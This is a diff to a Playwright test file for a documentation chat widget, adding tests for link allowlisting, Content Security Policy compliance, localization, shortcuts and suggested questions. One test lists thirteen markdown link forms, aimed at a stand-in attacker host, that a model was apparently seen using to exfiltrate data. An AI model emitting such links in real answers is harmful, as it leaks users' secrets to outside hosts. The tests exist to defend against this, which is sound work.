@@ -19,6 +19,7 @@ from chat.tests.browser.harness import (
     REPO,
     ChatServer,
     PageWatch,
+    RecordingServer,
     StaticServer,
     browser,
     require_browser,
@@ -434,8 +435,10 @@ def test_injected_doc_cannot_make_the_widget_load_remote_content(page, server):
         .filter(a => a.name.startsWith('on') || /^\\s*(javascript|data):/i.test(a.value)).map(a => a.name))""")
     assert handlers == []
     hrefs = shadow(page, "[...root.querySelectorAll('a')].map(a => a.protocol)")
-    assert set(hrefs) <= {"http:", "https:", "mailto:"}
-    assert answer.locator("a.img").count() >= 1  # the image became a link
+    assert set(hrefs) <= {"http:", "https:"}
+    # The remote image is neither an image nor a link (evil.example is not an allowed origin).
+    assert "image: status" in text
+    assert shadow(page, "[...root.querySelectorAll('a')].filter(a => a.hostname === 'evil.example').length") == 0
     assert page.evaluate("() => window.__pwned") is None
     assert page.watch.foreign_requests() == []
     page.watch.assert_clean()
@@ -534,4 +537,166 @@ def test_configuration_from_script_attributes_and_global_object_and_one_element_
     wait_for_answer(page)
     assert contrast(page, ".user", ".user") >= 4.5
     screenshot(page, "config-accent-left")
+    page.watch.assert_clean()
+
+
+def sse_answer(text: str, sources: list[dict]) -> str:
+    """A whole ``POST /chat`` event stream carrying ``text`` as the model's answer."""
+    events = [
+        ("session", {"session_id": "s" * 43, "created": True}),
+        ("message", {"user_message_id": 1}),
+        ("sources", {"sources": sources, "refused": False}),
+        ("delta", {"text": text}),
+        ("done", {"message_id": None, "status": "complete", "history_saved": True, "refused": False}),
+    ]
+    return "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
+
+
+def test_links_in_an_answer_never_reach_another_host(page, server):
+    """Issue 19 item 1, widget side: every link form a model was seen to use for
+    exfiltration, rendered in Chromium, opened, and an "evil" host that records what reaches
+    it. The answer is served as the stream would carry it (whatever the server's own URL
+    filter lets through), so this proves the widget's allowlist on its own."""
+    evil = RecordingServer().start()
+    try:
+        urllib.request.urlopen(evil.origin + "/probe").read()
+        assert evil.requests == ["GET /probe"]  # the recorder works
+        evil.requests.clear()
+        e, c = evil.host, server.origin.split("//")[1]
+        forms = [
+            f"[a](//{e}/scheme-relative?d=SECRET)",
+            f"[b](http:\\\\{e}\\backslashes?d=SECRET)",
+            f"[c](\\\\{e}/leading-backslashes?d=SECRET)",
+            f"[d](/\\{e}/slash-backslash?d=SECRET)",
+            f"[e](https:/{e}/one-slash-other-scheme?d=SECRET)",
+            f"[f](http:/{e}/one-slash-same-scheme?d=SECRET)",
+            f"[g](http://{c}'@{e}/userinfo?d=SECRET)",
+            f"[[1]](http://{c}\"@{e}/citation-userinfo?d=SECRET)",
+            f"[h](mailto:x@{e}?body=SECRET)",
+            f"<http://{e}/autolink?d=SECRET>",
+            f"http://{e}/bare?d=SECRET",
+            f"![i](http://{e}/image?d=SECRET)",
+            f"[j](http://{c}/docs/'SECRET)",
+        ]
+        answer = "\n\n".join(forms) + "\n\nSee the guide [1]."
+        sources = [{"n": 1, "title": "Guide", "heading": "", "url": server.origin + "/docs/guide", "path": "g.md"}]
+        page.route(server.origin + "/chat", lambda route: route.fulfill(
+            status=200, content_type="text/event-stream", body=sse_answer(answer, sources))
+            if route.request.method == "POST" else route.continue_())
+        page.goto(server.origin + "/")
+        open_panel(page)
+        ask(page, "Where is the guide?")
+        bot = page.locator("docs-chat .bot:not(.welcome)").first
+        bot.locator("[part=sources]").wait_for()
+        text = bot.locator(".md").inner_text()
+        # Refused links keep their text, as plain text.
+        for shown in ("\nb\n", "\nh\n", f"http://{e}/autolink?d=SECRET", f"http://{e}/bare?d=SECRET", "image: i"):
+            assert shown in text
+        hrefs = shadow(page, "[...root.querySelectorAll('.bot a')].map(a => a.href)")
+        assert hrefs and {h.split("/")[2] for h in hrefs} == {c}, hrefs
+        screenshot(page, "links-allowlist")
+        # Click every link there is (cross-origin ones open a new tab) and open each address.
+        links = page.locator("docs-chat .bot a")
+        for i in range(links.count()):
+            if links.nth(i).get_attribute("target") == "_blank":
+                with page.context.expect_page() as popup:
+                    links.nth(i).click()
+                popup.value.close()
+        for href in hrefs:
+            other = page.context.new_page()
+            other.goto(href)
+            other.close()
+        page.wait_for_timeout(300)
+        assert evil.requests == []
+    finally:
+        evil.stop()
+
+
+def test_widget_loads_clean_under_trusted_types_and_a_style_policy_without_unsafe_inline(page, server):
+    """Issue 19 item 12: no innerHTML, no inline style elements or attributes."""
+    policy = (f"default-src 'none'; script-src {server.origin}; connect-src {server.origin}; "
+              "style-src 'self'; img-src 'self'; require-trusted-types-for 'script'; trusted-types 'none'")
+    (server.site.directory / "tt.html").write_text(
+        f'<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy" content="{policy}">'
+        f'<title>TT</title><script src="{server.origin}/static/chat/widget.js" defer '
+        f'data-api="{server.origin}"></script></head><body><main><article><h1>Strict docs</h1>'
+        "<p id=para>Configure the server with environment variables.</p>"
+        "<pre tabindex=0><code>DEBUG=false</code></pre></article></main></body></html>"
+    )
+    page.add_init_script("""document.addEventListener('securitypolicyviolation',
+        e => (window.__violations = window.__violations || []).push(e.violatedDirective + ' ' + e.blockedURI));""")
+    page.goto(server.site.origin + "/tt.html")
+    # The selection button (positioned through CSSOM) and the code block button.
+    page.locator("#para").click(click_count=3)
+    page.locator("docs-chat [part=ask-button]").wait_for()
+    page.locator("docs-chat [part=ask-button]").click()
+    ask(page, QUESTION)
+    answer = wait_for_answer(page)
+    answer.get_by_role("button", name="Helpful", exact=True).click()
+    answer.get_by_text("Thanks for the feedback.").wait_for()
+    widget(page).get_by_role("button", name="Close chat").first.click()
+    page.locator("article pre").hover()
+    page.locator("docs-chat [part=ask-button]", has_text="Ask about this code").wait_for()
+    assert page.evaluate("() => window.__violations || []") == []
+    assert shadow(page, "getComputedStyle(root.querySelector('.launcher')).borderRadius") == "50%"
+    screenshot(page, "trusted-types")
+    page.watch.assert_clean()
+
+
+def test_strings_follow_the_page_language_and_can_be_overridden(page, server):
+    (server.site.directory / "es.html").write_text(
+        f'<!doctype html><html lang="es-MX"><title>ES</title><script src="{server.origin}/static/chat/widget.js" '
+        f"defer data-api=\"{server.origin}\" data-strings='{{\"send\": \"Mandar\"}}'></script><h1>Docs</h1>"
+    )
+    page.goto(server.site.origin + "/es.html")
+    widget(page).get_by_role("button", name="Abrir el chat").click()
+    assert page.locator("docs-chat h2").inner_text() == "Pregunta a la documentación"
+    assert widget(page).get_by_role("button", name="Mandar").is_visible()  # the override
+    assert page.locator("docs-chat textarea").get_attribute("placeholder") == "Haz una pregunta sobre la documentación…"
+    page.watch.assert_clean()
+
+
+def test_shortcut_can_be_changed_or_turned_off(page, server):
+    for shortcut, key, opens in (("k", "Control+k", True), ("off", "Control+i", False)):
+        name = f"shortcut-{shortcut}.html"
+        (server.site.directory / name).write_text(
+            f'<!doctype html><title>Keys</title><script src="{server.origin}/static/chat/widget.js" defer '
+            f'data-api="{server.origin}" data-shortcut="{shortcut}"></script><h1>Docs</h1>'
+        )
+        page.goto(server.site.origin + "/" + name)
+        page.evaluate("() => sessionStorage.clear()")  # not reopened from the previous page
+        page.reload()
+        page.locator("docs-chat .launcher").wait_for()
+        page.keyboard.press(key)
+        page.wait_for_timeout(100)
+        assert page.locator("docs-chat [part=panel]").is_visible() is opens, shortcut
+    page.watch.assert_clean()
+
+
+def test_without_configured_starters_the_servers_popular_questions_are_offered(page, server):
+    served = []
+
+    def starters(route):
+        served.append(route.request.url)
+        route.fulfill(status=200, content_type="application/json",
+                      headers={"Access-Control-Allow-Origin": server.site.origin},
+                      body=json.dumps({"starters": ["How do I install it?", "Which settings does the server need?"]}))
+
+    (server.site.directory / "starters.html").write_text(
+        f'<!doctype html><title>Starters</title><script src="{server.origin}/static/chat/widget.js" defer '
+        f'data-api="{server.origin}"></script><h1>Docs</h1>'
+    )
+    page.route(server.origin + "/chat/starters", starters)
+    page.goto(server.site.origin + "/starters.html")
+    page.locator("docs-chat .launcher").wait_for()
+    assert served == []  # never on a page view
+    open_panel(page)
+    buttons = page.locator("docs-chat [part=starters] button")
+    buttons.first.wait_for()
+    assert buttons.all_inner_texts() == ["How do I install it?", "Which settings does the server need?"]
+    assert page.locator("docs-chat [part=starters]").get_attribute("aria-label") == "Suggested questions"
+    buttons.nth(1).click()
+    wait_for_answer(page)
+    assert page.locator("docs-chat .user").all_inner_texts() == ["Which settings does the server need?"]
+    assert len(served) == 1
     page.watch.assert_clean()
